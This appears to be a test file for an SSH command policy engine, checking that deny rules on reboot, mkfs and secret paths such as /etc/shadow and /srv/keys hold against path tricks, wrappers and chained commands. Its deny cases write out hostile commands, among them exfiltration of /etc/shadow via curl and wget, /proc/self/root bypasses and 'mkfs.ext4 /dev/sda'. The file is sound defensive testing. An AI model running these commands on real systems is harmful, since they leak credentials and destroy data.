/** A guard on programs and files holds however they are reached: other folders, wrappers, and what programs make of names. */
import { describe, expect, test } from "bun:test";
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describeCommand } from "../adapters/ssh/describe.ts";
import { SSH_VOCABULARY } from "../adapters/ssh/vocabulary.ts";
import type { Session } from "../src/core/session.ts";
import { PolicyStore } from "../src/policy/store.ts";

const NOW = Date.UTC(2027, 0, 1);
const HEAD = "apiVersion: weir.dev/v1\n";
const FILES: Readonly<Record<string, string>> = {
  "policy.yaml": `${HEAD}kind: PolicySet\nname: guarded\n`,
  "permits/all.yaml": `${HEAD}kind: Permits
rules:
  - id: what-can-be-read
    subject: { names: [ann, cal] }
    target: { names: [box] }
    action: { ssh: {} }
  - id: one-by-name
    subject: { names: [bob] }
    target: { names: [box] }
    action: { ssh: { programs: [uptime] } }
`,
  "guards/some.yaml": `${HEAD}kind: Guards
rules:
  - id: no-power-games
    action: { ssh: { programs: [reboot, "mkfs**"] } }
    except: [{ action: { ssh: { programs: [/opt/sim/reboot] } }, reason: It only plays. }]
    deny: Not from here.
  - id: secrets-stay
    subject: { names: [ann] }
    action: { ssh: { paths: [/etc/shadow, /srv/keys, "/srv/keys/**", /srv/secret.gz, /srv/dump.tar, /srv/shop.git] } }
    deny: Not these.
`,
};

async function openPolicy(): Promise<(text: string, subject?: string) => string> {
  const folder = mkdtempSync(join(tmpdir(), "guards-"));
  try {
    for (const [name, text] of Object.entries(FILES)) {
      mkdirSync(join(folder, name, ".."), { recursive: true });
      writeFileSync(join(folder, name), text);
    }
    const target = { name: "box", adapter: "ssh", labels: {}, settings: null };
    const store = await PolicyStore.open(folder, [SSH_VOCABULARY], [target], () => {});
    return (text, subject = "ann") => {
      const session: Session = {
        id: "s",
        identity: {
          kind: "human",
          issuer: "weir",
          subject,
          groups: [],
          proof: { method: "key", credential: "SHA256:x", expiresAtMs: null },
        },
        target,
        openedAtMs: NOW,
        source: "127.0.0.1",
      };
      const { accesses, understood } = describeCommand(text, {
        login: "ops",
        home: "/accounts/ops",
        shell: "posix",
        hasPty: false,
      });
      const operation = {
        id: "op",
        session,
        kind: "exec",
        accesses,
        understood,
        text,
        textSha256: null,
        catalogDigest: null,
      };
      return store.decide(session, operation, NOW).kind;
    };
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

const decide = await openPolicy();

describe("a guard on a program's name", () => {
  test.each([
    "reboot",
    "/sbin/reboot",
    "/usr/sbin/reboot -f",
    "/sbin//reboot",
    "/./sbin/reboot",
    "./reboot",
    "../../sbin/reboot",
    "cd /sbin && ./reboot",
    "cd / && sbin/reboot",
    "'re'boot",
    "\\reboot",
    "sudo reboot",
    "sudo /sbin/reboot",
    "nice -n5 timeout 5 sudo -n reboot",
    "command reboot",
    "exec /sbin/reboot",
    "uptime; /sbin/reboot",
    "uptime || false && /sbin/reboot",
    "uptime | reboot",
    "REBOOT",
    "/SBIN/Reboot",
    "mkfs.ext4 /dev/sda",
    "/sbin/mkfs.ext4 /dev/sda",
  ])("denies %s", (text) => expect(decide(text, "cal")).toBe("deny"));

  test.each(["uptime", "systemctl status reboot", "/opt/rebooter", "echo /sbin/reboot", "/opt/sim/reboot"])(
    "leaves %s alone",
    (text) => expect(decide(text, "cal")).toBe("permit"),
  );

  test("but a permit's name is the one that is written", () => {
    expect(decide("uptime", "bob")).toBe("permit");
    for (const text of ["/tmp/uptime", "./uptime", "UPTIME"])
      expect([text, decide(text, "bob")]).toEqual([text, "deny"]);
  });
});

describe("a guard on files", () => {
  test.each([
    "cat /etc/shadow",
    "cat /etc/./shadow",
    "cat //etc//shadow",
    "cat ../../etc/shadow",
    "cd /etc && cat shadow",
    "cd /etc; cat shadow",
    "cat < /etc/shadow",
    "cat /etc/hosts /etc/shadow",
    "xxd -ps /etc/shadow",
    "head /etc/hosts -n /etc/shadow",
    "grep --context x /etc/shadow",
    "cp /etc/shadow /tmp",
    "cp /tmp/shadow /etc",
    "mv /srv /tmp",
    "ln -s /srv/keys /tmp/k",
    "ln -s /srv /tmp/k",
    "cp -r /srv /tmp",
    "tar cf /tmp/x /srv",
    "find /srv -name x",
    "grep -r x /srv",
    "du /srv",
    "ls -R /srv",
    "zcat /srv/secret",
    "zgrep x /srv/secret",
    "gzip -dc /srv/secret",
    "gunzip /srv/dump.tgz",
    "git-upload-pack '/srv/shop'",
    "git upload-pack /srv/shop/",
    "git-receive-pack /srv/shop.git/",
    "rsync --server --sender -logDtpre.iLsfxCIvu . /srv/keys",
    "rsync --server -logDtpre.iLsfxCIvu --backup-dir /srv/keys/x . /tmp/y",
    "scp -f /srv/keys/a",
    "scp -r -f /srv",
    "dd if=/etc/shadow of=/tmp/x",
    "dd if=/tmp/x of=/srv/keys/x",
    "echo x | tee /srv/keys/x",
    "echo x > /srv/keys/x",
    "echo x 2>> /srv/keys/x",
    "sort -o /srv/keys/x /tmp/a",
    "sort /tmp/a -o/srv/keys/x",
    "uniq /tmp/a /srv/keys/x",
    "install -m 600 /tmp/x /srv/keys",
    "install -t /srv/keys /tmp/x",
    "touch -r /etc/shadow /tmp/x",
    "date -r /etc/shadow",
    "date -f /etc/shadow",
    "sed p /etc/shadow",
    "sed -n -e p -- /etc/shadow",
    "awk '{print}' /etc/shadow",
    "jq -R . /etc/shadow",
    "curl file:///etc/shadow",
    "curl -d @/etc/shadow http://x",
    "curl -T/etc/shadow x",
    "wget --post-file=/etc/shadow x",
    "test -r /etc/shadow",
    "stat /etc/shadow",
    "file -f /etc/shadow",
    "wc --files0-from=/etc/shadow",
    "cat /proc/self/root/etc/shadow",
    "cat /proc/1/cwd/etc/shadow",
    "cd /proc/self/root && cat etc/shadow",
    "sudo cat /etc/shadow",
    "nice -n5 cat /etc/shadow",
    "/bin/cat /etc/shadow",
    "/tmp/mycat x",
    "base64 -w0 /etc/shadow",
    "rev /etc/shadow",
    "paste /etc/shadow /etc/hosts",
    "comm /etc/shadow /etc/hosts",
    "strings -a /etc/shadow",
    "openssl dgst -sha256 /etc/shadow",
    "python3 /tmp/x.py",
    "rm /srv/keys/a",
    "chmod 777 /etc/shadow",
    "chown a /srv/keys",
    "truncate -s0 /etc/shadow",
    "ls /srv/keys/",
  ])("denies %s", (text) => expect(decide(text)).toBe("deny"));

  test.each([
    "cat /etc/hosts",
    "uptime",
    "df -h",
    "ls /etc",
    "sleep 1",
    "pwd",
    "docker ps -a",
    "systemctl restart nginx",
    "sudo systemctl status nginx --no-pager -n 50",
    "journalctl -u nginx -n 50 --no-pager",
    "tail /var/log/syslog -n 100",
    "zcat /var/log/syslog.1.gz",
    "grep -A 3 x /var/log/syslog",
    "sed -n 1,5p /etc/hosts",
    "awk '$1 > 5' /tmp/a",
    "ps aux | grep nginx | wc -l",
    "gzip /tmp/a",
    "cp /tmp/a /tmp/b",
    "which git",
    "ip addr",
    "kill 123",
  ])("leaves %s alone", (text) => expect(decide(text)).toBe("permit"));
});
